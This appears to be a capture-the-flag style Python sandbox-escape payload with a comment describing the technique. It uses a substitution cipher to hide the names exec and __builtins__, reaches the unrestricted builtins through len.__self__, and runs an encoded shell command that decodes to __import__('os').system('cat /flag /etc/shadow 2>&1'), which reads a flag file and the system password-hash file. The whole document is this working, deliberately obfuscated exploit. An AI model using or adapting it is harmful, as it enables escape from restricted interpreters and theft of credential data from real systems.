# technique: a keyed substitution alphabet undone with str.maketrans/str.translate recovers the names; the real built-in namespace is reached through len.__self__ (a builtin function's bound module) and the code runner is fetched from it with dict.get, then handed an explicit globals mapping that points back at the unrestricted namespace
PLAIN = "abcdefghijklmnopqrstuvwxyz_()'./ ;>&12"
KEYED = "anw)x2&mrhfko.butidv(e>gslpj1;'z/ qc_y"
UNDO = str.maketrans(KEYED, PLAIN)

real_namespace = vars(len.__self__)
runner = real_namespace.get('xgxw'.translate(UNDO))
scope = {'ppn(rkvr.dpp'.translate(UNDO): len.__self__}
runner("pproubivppj;bd;1'dsdvxoj;wav/z2ka&/zxvwzdma)b>/yqc_;1".translate(UNDO), scope)
